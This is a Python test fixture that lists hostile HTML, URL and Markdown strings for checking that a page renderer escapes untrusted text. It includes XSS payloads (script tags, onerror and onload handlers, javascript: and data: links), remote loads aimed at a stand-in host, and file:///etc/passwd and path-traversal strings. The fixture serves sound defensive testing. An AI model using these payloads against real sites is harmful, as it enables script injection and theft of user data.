"""Hostile strings for anything that reaches HTML: put them in ids, names, titles, errors, links.

Every payload that runs script signals through the browser harness (``tests/browser.py``):
it calls ``window.__pwned("<its name>")``, opens a dialog or writes ``document.title``, so
``audit.xss_fired`` is true and ``audit.xss_events`` names the payload that fired. Every payload
that fetches something points at :data:`HOSTILE_HOST` (the reserved ``.invalid`` domain, which
never resolves; the harness blocks the request before it leaves the browser anyway).

Use them as text (``kind="html"``: names, titles, error messages, Markdown cells), as link
targets (``kind="url"``) or as Markdown source (``kind="markdown"``)::

    from tests.hostile import PAYLOADS, texts

    for p in PAYLOADS:
        render_something(name=p.text)
    audit = audit_page(out)
    assert not audit.xss_fired and audit.blocked_requests == ()
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

#: A host that never resolves (RFC 2606); every fetching payload points at it.
HOSTILE_HOST = "ucc-hostile.invalid"


@dataclass(frozen=True)
class Payload:
    """One hostile string: ``name`` is what ``window.__pwned`` receives when it fires."""

    name: str
    kind: str  # "html" (text that must stay text), "url" (a link target), "markdown"
    text: str
    #: What the payload does when a careless renderer pastes it raw into a page (as body
    #: markup for "html", as an ``<a href>`` for "url"): "script" (runs at load), "request"
    #: (fetches from HOSTILE_HOST or a file outside the folder), "unsafe" (script-on-click
    #: markup), "" (harmless raw: it targets another layer, such
    #: as format strings, double unescaping or a Markdown renderer).
    raw_effect: str = ""


_SCRIPT = "<script>parent.__pwned('md-data-link')</script>"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _p(name: str, kind: str, template: str, raw_effect: str = "") -> Payload:
    text = template.replace("NAME", name).replace("HOST", HOSTILE_HOST)
    return Payload(name, kind, text, raw_effect)


PAYLOADS: tuple[Payload, ...] = (
    # markup in text
    _p("img-onerror", "html", "<img src=x onerror=window.__pwned('NAME')>", "script"),
    _p("attr-break-script", "html", "\"><script>window.__pwned('NAME')</script>", "script"),
    _p("single-quote-break", "html", "'><svg onload=window.__pwned('NAME')>", "script"),
    _p("svg-onload", "html", "<svg/onload=window.__pwned('NAME')>", "script"),
    _p("details-ontoggle", "html", "<details open ontoggle=window.__pwned('NAME')>", "script"),
    _p("autofocus", "html", "<input autofocus onfocus=window.__pwned('NAME')>", "script"),
    _p("title-break", "html", "</title><script>window.__pwned('NAME')</script>", "script"),
    _p("textarea-break", "html", "</textarea><script>window.__pwned('NAME')</script>", "script"),
    _p("style-break", "html", "</style><script>window.__pwned('NAME')</script>", "script"),
    _p("code-break", "html", "</code></pre><script>window.__pwned('NAME')</script>", "script"),
    _p("comment-break", "html", "--><script>window.__pwned('NAME')</script><!--", "script"),
    _p(
        "iframe-srcdoc",
        "html",
        "<iframe srcdoc=\"<script>parent.__pwned('NAME')</script>\">",
        "script",
    ),
    _p("alert", "html", "<script>alert('NAME')</script>", "script"),
    _p("title-write", "html", "<script>document.title='PWNED NAME'</script>", "script"),
    _p("entity-encoded", "html", "&lt;img src=x onerror=window.__pwned('NAME')&gt;"),
    _p("template-braces", "html", "{city!r} ${window.__pwned('NAME')} {{7*7}} %s %(x)s"),
    _p("unicode-bidi", "html", "Ghent\u202e<b>dlob</b>\u202c \u00e9\u0301 \U0001f3d9"),
    # fetching markup in text
    _p("remote-img", "html", '<img src="http://HOST/NAME.png" alt="x">', "request"),
    _p("remote-script", "html", '<script src="http://HOST/NAME.js"></script>', "request"),
    _p("remote-css", "html", "<style>@import url('http://HOST/NAME.css');</style>", "request"),
    _p("remote-link-css", "html", '<link rel=stylesheet href="http://HOST/NAME.css">', "request"),
    _p(
        "meta-refresh",
        "html",
        '<meta http-equiv="refresh" content="0;url=http://HOST/NAME">',
        "request",
    ),
    _p("local-file", "html", '<img src="file:///etc/passwd" alt="NAME">', "request"),
    # link targets
    _p("javascript-url", "url", "javascript:window.__pwned('NAME')", "unsafe"),
    _p("javascript-url-case", "url", " JaVaScRiPt:window.__pwned('NAME')", "unsafe"),
    _p("javascript-url-tab", "url", "java\tscript:window.__pwned('NAME')", "unsafe"),
    _p("javascript-url-entity", "url", "javascript&colon;window.__pwned('NAME')", "unsafe"),
    _p("data-url", "url", "data:text/html,<script>window.__pwned('NAME')</script>", "unsafe"),
    _p("vbscript-url", "url", "vbscript:msgbox('NAME')", "unsafe"),
    _p("remote-url", "url", "http://HOST/NAME"),
    _p("path-traversal", "url", "../../../../etc/passwd"),
    _p("attr-break-url", "url", "x\" onmouseover=\"window.__pwned('NAME')", "unsafe"),
    # Markdown source (a name or message rendered through a Markdown cell)
    _p("md-javascript-link", "markdown", "[click me](javascript:window.__pwned('NAME'))"),
    _p("md-autolink", "markdown", "<javascript:window.__pwned('NAME')>"),
    _p("md-remote-image", "markdown", "![chart](http://HOST/NAME.png)"),
    _p("md-data-link", "markdown", f"[x](data:text/html;base64,{_b64(_SCRIPT)})"),
    _p("md-raw-html", "markdown", "**bold** <img src=x onerror=window.__pwned('NAME')>", "script"),
    _p("md-reference-link", "markdown", "[x][r]\n\n[r]: javascript:window.__pwned('NAME')"),
)


def texts(kind: str | None = None) -> list[str]:
    """The payload strings, all or those of one ``kind`` (``"html"``, ``"url"``, ``"markdown"``)."""
    kinds = {p.kind for p in PAYLOADS}
    if kind is not None and kind not in kinds:
        raise ValueError(f"kind must be one of {sorted(kinds)} or None, got {kind!r}")
    return [p.text for p in PAYLOADS if kind is None or p.kind == kind]
